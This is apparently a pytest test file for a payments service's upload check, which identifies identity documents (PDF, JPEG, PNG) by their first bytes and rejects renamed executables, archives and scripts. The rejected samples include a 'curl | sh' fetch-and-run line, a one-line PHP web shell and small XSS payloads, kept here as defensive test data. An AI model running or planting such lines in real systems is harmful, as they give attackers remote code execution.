"""Identity-document sniffing: the first bytes decide, never the file name."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from payments.file_types import (
    ACCEPTED_DOCUMENT_TYPES,
    DOCUMENT_EXTENSIONS,
    MAX_DOCUMENT_BYTES,
    SNIFF_BYTES,
    sniff_document,
)

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"


def sniff_file(path) -> str | None:
    with open(path, "rb") as fh:
        return sniff_document(fh.read(SNIFF_BYTES))


def test_max_document_size_is_10_mib():
    assert MAX_DOCUMENT_BYTES == 10 * 1024 * 1024 == 10_485_760


@pytest.mark.parametrize(
    ("head", "media_type"),
    [
        (PDF, "application/pdf"),
        (b"%PDF-2.0\n", "application/pdf"),
        (b"%PDF-1.4", "application/pdf"),
        (JPEG, "image/jpeg"),
        (b"\xff\xd8\xff\xe1\x00\x18Exif\x00\x00", "image/jpeg"),
        (b"\xff\xd8\xff\xdb\x00\x43\x00", "image/jpeg"),
        (PNG, "image/png"),
    ],
)
def test_accepted_documents(head, media_type):
    assert sniff_document(head) == media_type
    assert sniff_document(bytearray(head)) == media_type
    assert sniff_document(memoryview(head)) == media_type
    assert media_type in ACCEPTED_DOCUMENT_TYPES and media_type in DOCUMENT_EXTENSIONS


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("passport.png", PDF, "application/pdf"),
        ("passport.pdf", JPEG, "image/jpeg"),
        ("selfie.jpg", PNG, "image/png"),
        ("scan", PDF, "application/pdf"),
    ],
)
def test_content_wins_over_the_file_name(tmp_path, name, content, media_type):
    path = tmp_path / name
    path.write_bytes(content)
    assert sniff_file(path) == media_type


@pytest.mark.parametrize(
    "content",
    [
        b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00",  # ELF executable
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00",  # Windows PE
        b"PK\x03\x04\x14\x00\x06\x00",  # zip (and docx/xlsx/jar)
        b"#!/bin/sh\ncurl http://x | sh\n",  # shell script
        b"<?php system($_GET['c']); ?>",
        b"<!DOCTYPE html><script>alert(1)</script>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"GIF89a\x01\x00\x01\x00",  # an image, but not one we accept
        b"II*\x00\x08\x00\x00\x00",  # TIFF
        b"RIFF\x00\x00\x00\x00WEBPVP8 ",
        b"\x00\x00\x00\x18ftypheic",
    ],
)
def test_other_files_renamed_to_images_are_rejected(tmp_path, content):
    for name in ("id.jpg", "id.png", "id.pdf"):
        path = tmp_path / name
        path.write_bytes(content)
        assert sniff_file(path) is None


@pytest.mark.parametrize(
    "head",
    [
        b"",
        b"%",
        b"%PDF",
        b"%PDF-",
        b"%PDF-1",
        b"%PDF-1.",
        b"\xff",
        b"\xff\xd8",
        b"\x89PNG",
        b"\x89PNG\r\n\x1a",  # 7 of the 8 signature bytes
    ],
)
def test_truncated_magic_is_rejected(head):
    assert sniff_document(head) is None


@pytest.mark.parametrize(
    "head",
    [
        b" %PDF-1.7",  # signatures must start at byte 0: leading junk is how polyglots slip through
        b"\n%PDF-1.7",
        b"\xef\xbb\xbf%PDF-1.7",
        b"%pdf-1.7",
        b"%PDF-3.0",
        b"\x89PNG\r\n\x1a\r",
        b"\x89PNG\n\n\x1a\n",  # line endings mangled by a text-mode transfer
        b"\xff\xd9\xff\xe0",
    ],
)
def test_near_misses_are_rejected(head):
    assert sniff_document(head) is None


@pytest.mark.parametrize("head", ["%PDF-1.7", None, 123, ["%PDF-1.7"]])
def test_non_bytes_input_is_rejected(head):
    assert sniff_document(head) is None


SIGNATURES = {
    b"%PDF-1.7": "application/pdf",
    b"\xff\xd8\xff": "image/jpeg",
    b"\x89PNG\r\n\x1a\n": "image/png",
}


@given(st.sampled_from(sorted(SIGNATURES)), st.binary(max_size=64))
def test_anything_after_a_signature_keeps_its_type(signature, tail):
    assert sniff_document(signature + tail) == SIGNATURES[signature]


@given(st.binary(max_size=64))
def test_bytes_without_a_signature_are_rejected(head):
    if not head.startswith((b"%PDF-1.", b"%PDF-2.", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n")):
        assert sniff_document(head) is None
